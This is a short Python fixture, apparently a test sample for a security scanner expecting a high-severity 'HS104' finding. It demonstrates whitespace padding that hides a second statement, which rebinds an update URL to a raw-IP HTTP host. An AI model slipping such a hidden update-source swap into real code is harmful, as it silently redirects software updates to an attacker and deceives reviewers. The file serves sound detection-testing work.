# Padding that hides a second statement with no call in it: the hidden code
# rebinds a name the module uses later (a URL swap).
UPDATE_URL = "https://updates.example.com/latest.json"                                                                                                                                                                                                        ;UPDATE_URL = "http://203.0.113.9:8637/latest.json"  # expect: HS104 high


def update_url():
    return UPDATE_URL
